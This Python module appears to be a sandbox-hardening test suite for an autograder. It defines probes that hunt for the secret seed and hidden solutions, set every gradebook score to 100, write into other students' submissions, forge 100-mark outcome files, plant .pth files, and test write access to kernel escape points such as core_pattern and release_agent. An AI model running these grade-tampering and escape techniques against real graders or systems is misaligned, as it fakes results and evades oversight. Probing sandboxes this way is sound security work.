"""What lies on the disk: the grader, the seed, the gradebook, other submissions, what others left behind."""

from .attack import LOOKED, Family

disk = Family("disk")

disk.code(
    "the seed",
    "the secret from which hidden inputs are drawn",
    """
import glob, os
for place in (COURSE, os.getcwd(), "..", "../..", "/proc/1/root" + COURSE, "/proc/self/root" + COURSE, "/proc/1/cwd"):
    try:
        escaped(open(os.path.join(place, "secret-seed")).read())
    except OSError: pass
for path in glob.glob("/*/secret-seed") + glob.glob("/*/*/secret-seed") + glob.glob("/*/*/*/secret-seed"):
    escaped(path)
""",
)
disk.code(
    "the grader",
    "hidden cases and references in the grader's package",
    """
import importlib, os, sys
for folder in (PROJECT, os.path.dirname(PROJECT), *sys.path, "/proc/1/root" + PROJECT):
    for name in ("grader/exercises/jazztel_delays.py", "exercises/jazztel_delays.py", "examiner.py", "bank.py"):
        try:
            if b"def " in open(os.path.join(folder, name), "rb").read(): escaped(name)
        except OSError: pass
sys.path[:0] = [os.path.dirname(PROJECT), PROJECT]
for unit in ("jazztel_delays", "iberia_minute_zero", "iberia_voices"):
    try:
        for bank in importlib.import_module("grader.exercises." + unit).BANKS:
            globals()[bank.exercise.replace("-", "_")] = bank.solution
            escaped("a bank")
    except Exception as error: print(type(error).__name__)
""",
)
disk.code(
    "site-packages",
    "the reference may be installed, compiled or cached somewhere",
    """
import os, sys
looked = 0
for top in {p for p in (*sys.path, sys.prefix, sys.base_prefix) if p and os.path.isdir(p)}:
    for folder, folders, names in os.walk(top):
        folders[:] = [f for f in folders if f not in ("tests", "test", "node_modules", "pandas", "scipy",
            "numpy", "share", "include", "labextensions")]
        looked += len(names)
        for name in names:
            if "jazztel_delays" in name or "direct_url" in name or name.endswith((".pth", ".egg-link")):
                path = os.path.join(folder, name)
                try: text = open(path, "rb").read()
                except OSError: continue
                if b"caught" + b"_by" in text: escaped(path)
        if looked > 60_000: break
print(looked)
""",
    base="half",
)
disk.code(
    "the lessons",
    "the source of the lesson holds the solutions",
    """
import glob, os
for top in (os.path.dirname(PROJECT), COURSE, "/proc/1/root" + os.path.dirname(PROJECT), "/"):
    for pattern in ("notebooks/*/lesson.py", "source/*/*/*.ipynb", "tests/**/*.py", ".git/HEAD", "grader/gold/*"):
        for path in glob.glob(os.path.join(top, pattern), recursive=True)[:2]:
            try:
                open(path, "rb").read(); escaped(path)
            except OSError: pass
""",
)
disk.code(
    "the gradebook",
    "a hundred points written into the gradebook",
    """
import glob, sqlite3
for path in (COURSE + "/gradebook.db", "../../../gradebook.db", "/proc/1/root" + COURSE + "/gradebook.db"):
    try:
        book = sqlite3.connect("file:" + path + "?mode=rw", uri=True, timeout=1)
        book.execute("update grade set manual_score = 100.0, needs_manual_grade = 0"); book.commit()
        escaped(path)
    except sqlite3.Error as error: print(error)
try:
    import psycopg
    for host in ("", "127.0.0.1", "/var/run/postgresql", "/tmp"):
        try: psycopg.connect(host=host, user="postgres", connect_timeout=1); escaped("PostgreSQL")
        except Exception as error: print(type(error).__name__)
except ImportError: pass
""",
)
disk.code(
    "other submissions",
    "a neighbour's answers, or the neighbour's folder for writing",
    """
import glob, os
for top in (COURSE, "..", "../..", "../../..", "/proc/1/root" + COURSE, "/tmp", "/var/tmp"):
    for stage in ("submitted", "autograded", "feedback", "release", ""):
        for path in glob.glob(os.path.join(top, stage, NEIGHBOUR, "*", "*"))[:2]:
            escaped(path)
            if os.access(path, os.W_OK): open(path, "a").write(TOKEN)
for path in glob.glob("/tmp/c20-*") + glob.glob("/home/*/*.ipynb") + glob.glob("/home/student/../*"):
    if "ipynb" in path or "intake" in path: escaped(path)
""",
)
disk.code(
    "writing outside",
    "files where the grader, the system or the next submission would find them",
    """
import os, sys, site, tempfile
places = ["/", "/usr", "/usr/lib", "/usr/local/bin", "/etc", "/opt", "/var/tmp", "/run", "/srv", "/root",
    "/home", COURSE,
          COURSE + "/submitted", COURSE + "/autograded", PROJECT, os.path.dirname(PROJECT), sys.prefix,
              sys.prefix + "/bin",
          *sys.path, *site.getsitepackages(), "/dev/shm", "/tmp", os.path.expanduser("~"), "/proc/1/root/tmp",
          "/proc/1/cwd"]
for place in places:
    try:
        with open(os.path.join(place, TOKEN + "-outside.pth"), "w") as f: f.write("import sys")
    except OSError: pass
import course, pandas
for module in (course, pandas):
    try:
        with open(module.__file__, "a") as f: pass
        if os.access(module.__file__, os.W_OK): escaped("writable " + module.__file__)
    except OSError: pass
""",
    base="half",
)
disk.code(
    "left for the next",
    "shared memory, queues, keys and sockets that outlive the submission",
    """
import ctypes, mmap, os, socket
libc = ctypes.CDLL(None, use_errno=True)
name = TOKEN.encode()
shm = libc.shmget(0x43323061, 4096, 0o1666)
sem = libc.semget(0x43323061, 1, 0o1666)
msg = libc.msgget(0x43323061, 0o1666)
print("SYSV", shm, sem, msg)
for path in ("/dev/shm/" + TOKEN + "-shm", "/dev/mqueue/" + TOKEN, "/tmp/" + TOKEN + "-tmp", "/run/lock/" + TOKEN):
    try: open(path, "w").write("x")
    except OSError: pass
try: libc.mq_open(b"/" + name, os.O_CREAT | os.O_RDWR, 0o666, None)
except Exception: pass
key = libc.syscall(248, b"user", name, b"left", 4, ctypes.c_long(-4))
print("KEY", key)
try:
    s = socket.socket(socket.AF_UNIX); s.bind("\\0" + TOKEN + "-left"); s.listen()
except OSError as error: print(error)
try:
    from multiprocessing import shared_memory
    shared_memory.SharedMemory(TOKEN + "-py", create=True, size=4096)
except Exception as error: print(type(error).__name__)
""",
    base="half",
)
disk.code(
    "found from the last",
    "what another submission of this class left in shared memory, queues, keys, sockets and folders",
    """
import ctypes, glob, os, socket
libc = ctypes.CDLL(None, use_errno=True)
if libc.shmget(0x43323061, 4096, 0) >= 0: escaped("SysV memory")
if libc.semget(0x43323061, 1, 0) >= 0: escaped("SysV semaphore")
if libc.msgget(0x43323061, 0) >= 0: escaped("SysV queue")
for place in ("/dev/shm", "/tmp", "/dev/mqueue", "/var/tmp"):
    for path in glob.glob(place + "/*" + TOKEN + "*"): escaped(path)
for ring in (-3, -4, -5):
    if libc.syscall(250, 10, ctypes.c_long(ring), b"user", TOKEN.encode(), 0) > 0: escaped("a key")
if libc.syscall(249, b"user", TOKEN.encode(), None, 0) > 0: escaped("a key by request")
try:
    s = socket.socket(socket.AF_UNIX); s.connect("\\0" + TOKEN + "-left"); escaped("a socket")
except OSError as error: print(error)
if [n for n in os.listdir(".") if not n.startswith(".") and n != "annotations.csv"]: print("HOME", os.listdir("."))
""",
)
disk.code(
    "its own future",
    "the executed notebook, the outcome and the feedback are written by the submission itself",
    """
import os
for name in ("05-jazztel-delays.ipynb", "outcomes.json", "feedback.html", "../05-jazztel-delays.ipynb", "result.json"):
    for place in (".", COURSE + "/autograded", COURSE + "/reports/05-jazztel-delays", "/proc/1/cwd"):
        try:
            os.makedirs(place, exist_ok=True)
            open(os.path.join(place, name), "w").write('{"marks": 100}')
        except OSError: pass
""",
    base="half",
)
disk.code(
    "links out of the scratch",
    "links and devices in the scratch, which whoever cleans up or copies will follow",
    """
import os
for number, target in enumerate(("/etc/passwd", COURSE + "/gradebook.db", COURSE + "/secret-seed", "/",
    "/dev/zero", "/proc/self/mem")):
    try: os.symlink(target, f"link-{number}.csv")
    except OSError: pass
try: os.mkfifo("fifo.csv")
except OSError: pass
for kind, number in ((0o060600, os.makedev(7, 0)), (0o020600, os.makedev(1, 1)), (0o060600, os.makedev(8, 0))):
    try:
        os.mknod("device", kind, number)
        os.close(os.open("device", os.O_RDONLY)); escaped("a device")
    except OSError: pass
    try: os.unlink("device")
    except OSError: pass
deep = "."
for _ in range(300):
    deep = os.path.join(deep, "d" * 100)
    try: os.mkdir("d" * 100); os.chdir("d" * 100)
    except OSError: break
""",
    base="half",
)
disk.code(
    "the kernel's window",
    "what /proc and /sys tell of the machine, and what of it may be written",
    """
import os
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
    "/proc/sys/vm/drop_caches",
             "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/cgroup.procs",
             "/proc/1/oom_score_adj",
             "/proc/self/uid_map", "/proc/kcore", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/loop0"):
    try:
        os.close(os.open(path, os.O_WRONLY)); 
        if "oom" not in path and "uid_map" not in path: escaped(path)
    except OSError: pass
import glob
others = [p for p in glob.glob("/proc/[0-9]*/cmdline") if b"pytest" in open(p,
    "rb").read() or b"jupyter" in open(p, "rb").read()]
if others: escaped("processes of the host are seen")
""",
    states=LOOKED,
    base="half",
)
